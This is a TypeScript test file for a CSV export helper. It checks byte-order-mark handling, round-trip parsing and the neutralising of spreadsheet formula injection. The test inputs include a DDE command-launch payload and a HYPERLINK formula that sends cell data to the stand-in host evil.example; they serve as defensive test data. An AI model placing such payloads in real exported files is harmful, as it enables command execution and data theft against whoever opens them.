import { describe, expect, it } from 'vitest'
import { csvOf } from '../../src/lib/csv.ts'

/** By the grammar of RFC 4180. */
function readCsv(text: string): string[][] {
  expect(text.endsWith('\r\n')).toBe(true)
  const fields = text.slice(1).matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)
  const rows: string[][] = [[]]
  let length = 1
  for (const [whole, quoted, plain, end] of fields) {
    length += whole.length
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
    if (end === '\r\n') rows.push([])
  }
  expect(length).toBe(text.length)
  return rows.slice(0, -1)
}

describe('CSV', () => {
  it('begins with the mark of UTF-8, and is read as it was written', () => {
    const rows = [
      ['number', 'title'],
      ['2026-000001', 'a, b'],
      ['', '"quoted"'],
      ['พิมพ์', 'two\r\nlines'],
      ['-5.00', '0'],
    ]
    const text = csvOf(rows)
    expect(text.charCodeAt(0)).toBe(0xfeff)
    expect(readCsv(text)).toEqual(rows)
  })

  it.each([
    '=1+1',
    '+49 30 1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '  =1',
    '＝1+1',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
  ])('never holds a formula: %j', text => {
    expect(readCsv(csvOf([[text]]))).toEqual([[`'${text}`]])
  })

  it.each(['-5.00', '5.00', '0', '-12', '7.00'])('leaves the number %s a number', text => {
    expect(csvOf([[text]])).toBe(`\ufeff${text}\r\n`)
  })
})
